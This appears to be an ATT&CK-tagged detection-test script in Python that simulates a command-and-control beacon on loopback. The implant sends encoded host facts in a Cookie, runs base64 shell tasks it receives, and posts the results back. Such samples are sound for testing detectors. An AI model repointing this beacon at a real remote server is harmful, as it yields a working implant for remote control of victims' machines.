# technique: T1071.001 T1132.001 T1059.004
"""HTTP beacon loop: check in with encoded host facts, receive shell tasks, post results (T1071.001, T1132.001, T1059.004).

An implant polls our loopback "C2" over HTTP with urllib every ~100 ms
(with jitter). Each check-in carries base64-encoded host facts in a
Cookie header; the answer is a base64 task that the implant runs with
subprocess (shell=True) and whose output it POSTs back, base64-encoded.
The server hands out two tasks, then "sleep", and the loop ends.

A good detector raises a high alert: a process that repeatedly talks to
the same HTTP peer runs shell commands it receives from it.
"""
import base64
import http.server
import os
import random
import socket
import subprocess
import threading
import time
import urllib.request

tasks = [b"id -u", b"uname -sr", b"sleep"]
results = []


class C2(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = base64.b64encode(tasks.pop(0) if tasks else b"sleep")
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        results.append(base64.b64decode(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), C2)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = "http://127.0.0.1:%d/api/telemetry" % server.server_address[1]
facts = base64.b64encode(("%s|%d|%s" % (socket.gethostname(), os.getuid(), os.uname().release)).encode())
for _ in range(6):
    request = urllib.request.Request(url, headers={"Cookie": "sid=" + facts.decode(), "User-Agent": "Mozilla/5.0"})
    task = base64.b64decode(urllib.request.urlopen(request, timeout=3).read())
    if task == b"sleep":
        break
    output = subprocess.run(task.decode(), shell=True, capture_output=True, timeout=5).stdout
    urllib.request.urlopen(urllib.request.Request(url, data=base64.b64encode(output), method="POST"), timeout=3)
    time.sleep(0.1 + random.random() / 20)
server.shutdown()
print("C2 received", results)
